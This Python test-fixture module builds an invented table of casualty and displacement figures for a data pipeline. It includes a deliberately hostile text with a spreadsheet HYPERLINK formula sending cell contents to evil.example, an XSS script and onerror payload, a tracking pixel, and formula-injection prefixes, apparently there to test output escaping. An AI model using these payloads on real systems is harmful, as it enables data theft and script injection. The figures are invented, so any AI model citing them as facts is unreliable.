"""A small table of invented figures: every qualifier, measure and kind of evidence, and one hostile document."""

from __future__ import annotations

import json
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import polars as pl
import pyarrow.parquet as pq

from etl.schema import ARROW_SCHEMA, KEYS, SCHEMA_VERSION, complete

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1) ![p](http://evil.example/pixel.png) '
    '<img src="http://evil.example/x.png" onerror="document.title=1"><script>document.title="owned"</script> '
    "$\\frac{1}{2}$ :material/home: :red[Red] http://evil.example/auto www.evil.example **bold** & 7 people died"
)
"""A sentence that a spreadsheet, a Markdown reader or a browser would act on, if it were let."""

REPORT = (
    "At least 20 civilians were killed in Idleb on 25 February, the hospital group said. "
    "Seven civilians, including three children, died on Thursday. "
    "More than 948,000 people have fled, hundreds of them on foot."
)

UNSURE = "Of those who had come, 41 were no more, a resident said on Thursday."
"""A sentence that a program reads without being sure: its figure waits for review."""

SOURCES: list[dict[str, Any]] = [
    {
        "id": identifier,
        "title": title,
        "publisher": publisher,
        "licence": licence,
        "redistributable": licence != "No passing on",
        "citation": f"{publisher}. {title}. Invented for tests.",
        "caveat": "Invented figures, for tests only.",
        "homepage": "https://example.org",
        "cadence": "no longer updated",
        "counts": "people in an invented world",
        "does_not_count": "people of other worlds",
        "out_of_date_after": None,
        "files": {
            "sample.csv": {
                "figures": 1,
                "rejected": 0,
                "left_out": {"cells that say nothing": 3},
                "unresolved": {"Nowhere <b>at all</b>": 2},
                "retrieved_at": "2026-11-01T00:00:00+00:00",
                "stale": None,
            }
        },
    }
    for identifier, title, publisher, licence in (
        ("prose", "Reports in prose", "Sample Wire", "CC-BY-4.0"),
        ("stocks", "Refugees by country", "Sample Agency", "CC-BY-4.0"),
        ("events", "Deaths by event", "Sample University", "CC-BY-4.0"),
        ("daily", "Daily counts", "Sample Ministry", "LicenseRef-public-domain"),
        ("closed", "A closed list", "Sample Registry", "No passing on"),
    )
]


def build_sample() -> pl.DataFrame:
    """The sample's figures, 100 or so, with their relations."""
    claims = [*_report(), _unsure(), *_bulletin(), *_hostile(), *_stocks(), *_events(), *_daily(), _closed()]
    figures = complete(pl.DataFrame(claims, schema_overrides=_overrides(), infer_schema_length=None))
    whole = figures.filter(pl.col("number_text") == "Seven")["figure_id"][0]
    series = pl.concat_str("source", "outcome", "place", "nationality", "age_group", separator="|", ignore_nulls=True)
    return figures.with_columns(
        part_of=pl.when(pl.col("part_of_key").is_not_null()).then(pl.lit(whole)),
        series_id=pl.when(pl.col("measure") == "flow").then(pl.col("figure_id")).otherwise(series),
        claim_id=pl.lit(None, dtype=pl.String),
        role=pl.lit("recommended"),
    ).drop(*KEYS)


def build_published() -> pl.DataFrame:
    """The sample's figures that do not wait for review."""
    return build_sample().filter(pl.col("review_status") != "waiting")


def write_sample(path: Path, figures: pl.DataFrame | None = None) -> Path:
    """The sample as a published table at this path, manifest and all."""
    figures = build_sample() if figures is None else figures
    table = figures.to_arrow(compat_level=pl.CompatLevel.oldest()).cast(ARROW_SCHEMA)
    metadata = {
        "schema_version": json.dumps(SCHEMA_VERSION),
        "sources": json.dumps({entry["id"]: entry for entry in SOURCES}),
    }
    pq.write_table(table.replace_schema_metadata(metadata), path)
    return path


def _overrides() -> dict[str, Any]:
    return {"table_ref": pl.Struct({"file": pl.String, "sheet": pl.String, "row": pl.Int32, "column": pl.String})}


def _claim(**fields: Any) -> dict[str, Any]:
    plain = {
        "dataset": "prose", "outcome": "killed", "measure": "flow", "number_text": "1", "value": None,
        "qualifier": "exact", "status": "unknown", "group": None, "age_group": "any", "sex": "any",
        "unit": "people", "nationality": None, "period_start": None, "period_end": None, "as_of": None,
        "period_precision": "unknown", "published_on": None, "place": None, "place_text": None, "iso3": None,
        "place_precision": "unknown", "place_role": "occurrence", "source": "unattributed",
        "source_type": "unknown", "attribution_text": None, "publisher": "Sample Wire", "relay_depth": 1,
        "document_id": "d1", "document_title": "A report from Idleb", "url": "https://example.org/d1",
        "language": "en", "licence": "CC-BY-4.0", "redistributable": True, "quote": None, "quote_start": None,
        "quote_end": None, "number_start": None, "number_end": None, "table_ref": None, "part_of_key": None,
        "printed_low": None, "printed_high": None, "method": "sample 1", "reported_term": None, "phase": None,
        "confidence": None, "review_status": "unreviewed", "household_size": None, "household_size_source": None,
        "retrieved_at": datetime(2026, 11, 1, tzinfo=UTC),
    }  # fmt: skip
    return plain | fields


def _said(text: str, sentence: str, number: str, **fields: Any) -> dict[str, Any]:
    begin = text.index(sentence)
    start = begin + sentence.index(number)
    return _claim(
        quote=sentence, quote_start=begin, quote_end=begin + len(sentence), number_text=number,
        number_start=start, number_end=start + len(number), **({"confidence": 0.91} | fields),
    )  # fmt: skip


def _report() -> list[dict[str, Any]]:
    first, second, third = (part if part.endswith(".") else part + "." for part in REPORT.split(". "))
    idleb = {
        "place": "Idleb",
        "iso3": "SYR",
        "admin1_pcode": "SY07",
        "place_precision": "admin1",
        "published_on": date(2020, 2, 28),
    }
    day = {"period_start": date(2020, 2, 25), "period_end": date(2020, 2, 25), "period_precision": "day"}
    thursday = {"period_start": date(2020, 2, 27), "period_end": date(2020, 2, 27), "period_precision": "day"}
    since = {"period_start": date(2019, 12, 1), "as_of": date(2020, 2, 28), "measure": "cumulative"}
    un = {"source": "UN", "source_type": "un", "outcome": "displaced"}
    monitor = {"source": "SOHR", "source_type": "monitor", "attribution_text": "according to SOHR"}
    return [
        _said(REPORT, first, "20", value=20, qualifier="at_least", status="civilian", source="UOSSM",
              source_type="medical", attribution_text="the hospital group said", **day, **idleb),
        _said(REPORT, second, "Seven", value=7, status="civilian", **monitor, **thursday, **idleb),
        _said(REPORT, second, "three", value=3, status="civilian", age_group="child", part_of_key="Seven",
              **monitor, **thursday, **idleb),
        _said(REPORT, third, "948,000", value=948_000, qualifier="more_than", **un, **since, **idleb),
        _said(REPORT, third, "hundreds", printed_low=200, qualifier="vague", **un, **since, **idleb),
    ]  # fmt: skip


def _unsure() -> dict[str, Any]:
    return _said(
        UNSURE, UNSURE, "41", value=41, document_id="d4", document_title="A second report",
        place="Idleb", iso3="SYR", place_precision="admin1", source="A resident",
        source_type="witness", published_on=date(2020, 2, 28), period_start=date(2020, 2, 27),
        period_end=date(2020, 2, 27), period_precision="day", confidence=0.31, review_status="waiting",
    )  # fmt: skip


def _bulletin() -> list[dict[str, Any]]:
    text = (
        "About 20,000 people were displaced, nearly 500 were injured, up to 15 are missing, fewer than 10 were "
        "abducted, between 80 and 100 were detained, and 236 families lost their homes; 4 schools were attacked."
    )
    rows = (
        ("20,000", 20_000, "about", "displaced", {}),
        ("500", 500, "nearly", "injured", {}),
        ("15", 15, "up_to", "missing", {}),
        ("10", 10, "less_than", "abducted", {}),
        ("80 and 100", None, "between", "detained", {"printed_low": 80, "printed_high": 100}),
        ("236", 236, "exact", "homeless",
         {"unit": "households", "household_size": 5.1, "household_size_source": "a census"}),
        ("4", 4, "exact", "school_attacked", {"unit": "buildings"}),
    )  # fmt: skip
    month = {"period_start": date(2021, 3, 1), "period_end": date(2021, 3, 31), "period_precision": "month"}
    return [
        _said(text, text, number, value=value, qualifier=qualifier, outcome=outcome, document_id="d2",
              document_title="A bulletin", source="Sample Cluster", source_type="un", publisher="Sample Cluster",
              relay_depth=0, published_on=date(2021, 4, 2), place="Borno", iso3="NGA", place_precision="admin1",
              **month, **more)
        for number, value, qualifier, outcome, more in rows
    ]  # fmt: skip


def _hostile() -> list[dict[str, Any]]:
    return [
        _said(
            HOSTILE, HOSTILE, "7", value=7, document_id="d3", document_title=HOSTILE, source="@" + HOSTILE[:60],
            publisher="+" + HOSTILE[:60], place="-" + HOSTILE[:60], reported_term="\t" + HOSTILE, iso3="SYR",
            attribution_text=HOSTILE, published_on=date(2022, 5, 5), period_end=date(2022, 5, 4),
            period_start=date(2022, 5, 4), period_precision="day", cause="'=cause",
        )
    ]  # fmt: skip


def _cell(file: str, row: int, column: str) -> dict[str, Any]:
    return {"file": file, "sheet": None, "row": row, "column": column}


def _stocks() -> list[dict[str, Any]]:
    claims = []
    flows = {("SYR", "TUR"): 3_000_000, ("SYR", "LBN"): 800_000, ("AFG", "IRN"): 900_000, ("SDN", "TCD"): 400_000,
             ("MMR", "BGD"): 950_000, ("VEN", "COL"): 2_500_000, ("SSD", "UGA"): 700_000}  # fmt: skip
    for row, (year, ((origin, host), base)) in enumerate(
        ((year, pair) for year in range(2018, 2023) for pair in flows.items()), start=1
    ):
        value = base + (year - 2020) * 10_007
        for column, outcome, number in (("refugees", "refugee", value), ("asylum_seekers", "asylum_seeker", 1_000)):
            claims.append(
                _claim(
                    dataset="stocks", outcome=outcome, measure="stock", number_text=str(number), value=number,
                    as_of=date(year, 12, 31), period_precision="day", published_on=date(year + 1, 6, 20),
                    nationality=origin, iso3=host, place=host, place_precision="country", place_role="host",
                    source="Sample Agency", source_type="un", publisher="Sample Agency", relay_depth=0,
                    document_id=f"{year}|{origin}|{host}", document_title="Refugees by country", url=None,
                    status="all", table_ref=_cell("stocks.csv", row, column), review_status="not_needed",
                    reported_term=column,
                )
            )  # fmt: skip
    return claims


def _events() -> list[dict[str, Any]]:
    return [
        _claim(
            dataset="events", number_text=str(3 * row), value=3 * row, qualifier="between", printed_low=2 * row,
            printed_high=5 * row, period_start=date(2019, 1, 1) + timedelta(9 * row),
            period_end=date(2019, 1, 1) + timedelta(9 * row + row % 4), period_precision="interval", iso3="SYR",
            place="Aleppo" if row % 2 else "Homs", place_precision="admin1", source="Sample University",
            source_type="monitor", publisher="Sample University", relay_depth=0, document_id=str(1000 + row),
            document_title="Deaths by event", url=None, published_on=date(2020, 6, 1),
            table_ref=_cell("events.csv", row, "best"), review_status="not_needed", reported_term="best",
        )
        for row in range(1, 21)
    ]  # fmt: skip


def _daily() -> list[dict[str, Any]]:
    claims = []
    for row in range(1, 31):
        day = date(2023, 10, 6) + timedelta(row)
        for column, outcome, age, number in (
            ("killed_cum", "killed", "any", 200 * row), ("injured_cum", "injured", "any", 500 * row),
            ("killed_children_cum", "killed", "child", 80 * row),
        ):  # fmt: skip
            claims.append(
                _claim(
                    dataset="daily", outcome=outcome, measure="cumulative", number_text=str(number), value=number,
                    age_group=age, period_start=date(2023, 10, 7), as_of=day, period_precision="interval",
                    published_on=day, iso3="PSE", place="Gaza Strip", place_precision="admin1",
                    source="Sample Ministry", source_type="government", publisher="Sample Ministry", relay_depth=0,
                    document_id=day.isoformat(), document_title="Daily counts", url=None,
                    licence="LicenseRef-public-domain", table_ref=_cell("daily.json", row, column),
                    review_status="not_needed", reported_term=column,
                )
            )  # fmt: skip
    return claims


def _closed() -> dict[str, Any]:
    return _claim(
        dataset="closed", number_text="11", value=11, iso3="SYR", place="Homs", place_precision="town",
        period_start=date(2019, 5, 1), period_end=date(2019, 5, 1), period_precision="day", source="Sample Registry",
        source_type="monitor", publisher="Sample Registry", document_id="c1", document_title="A closed list",
        licence="No passing on", redistributable=False, table_ref=_cell("closed.csv", 1, "deaths"),
        review_status="not_needed",
    )  # fmt: skip
